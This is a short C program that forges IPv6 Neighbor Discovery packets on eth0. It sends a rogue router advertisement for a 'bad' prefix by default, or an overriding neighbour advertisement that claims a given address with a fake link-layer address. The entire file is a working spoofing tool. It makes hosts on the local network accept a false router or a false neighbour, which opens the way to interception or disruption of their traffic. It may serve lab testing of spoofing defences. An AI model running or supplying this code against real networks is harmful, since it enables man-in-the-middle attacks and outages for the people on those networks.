/* Pretends to be a router ("router"), or to have another's address ("neighbour ADDRESS"), on eth0. */
#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct sockaddr_in6 all = { .sin6_family = AF_INET6 };
	unsigned char packet[128] = { 0 };
	size_t length;
	int hops = 255;
	int fd = socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6);

	all.sin6_scope_id = if_nametoindex("eth0");
	inet_pton(AF_INET6, "ff02::1", &all.sin6_addr);
	setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof hops);
	if (argc > 2) {
		struct nd_neighbor_advert *tell = (void *)packet;
		unsigned char option[8] = { ND_OPT_TARGET_LINKADDR, 1, 2, 0xba, 0xad, 0xba, 0xad, 1 };

		tell->nd_na_type = ND_NEIGHBOR_ADVERT;
		tell->nd_na_flags_reserved = ND_NA_FLAG_OVERRIDE;
		inet_pton(AF_INET6, argv[2], &tell->nd_na_target);
		memcpy(tell + 1, option, sizeof option);
		length = sizeof *tell + sizeof option;
	} else {
		struct nd_router_advert *tell = (void *)packet;
		struct nd_opt_prefix_info *prefix = (void *)(tell + 1);

		tell->nd_ra_type = ND_ROUTER_ADVERT;
		tell->nd_ra_router_lifetime = htons(1800);
		prefix->nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION;
		prefix->nd_opt_pi_len = 4;
		prefix->nd_opt_pi_prefix_len = 64;
		prefix->nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO;
		prefix->nd_opt_pi_valid_time = prefix->nd_opt_pi_preferred_time = htonl(3600);
		inet_pton(AF_INET6, "2001:db8:bad::", &prefix->nd_opt_pi_prefix);
		length = sizeof *tell + sizeof *prefix;
	}
	for (int i = 0; i < 3; i++) {
		if (sendto(fd, packet, length, 0, (void *)&all, sizeof all) < 0) {
			perror("sendto");
			return 1;
		}
		usleep(100000);
	}
	return 0;
}
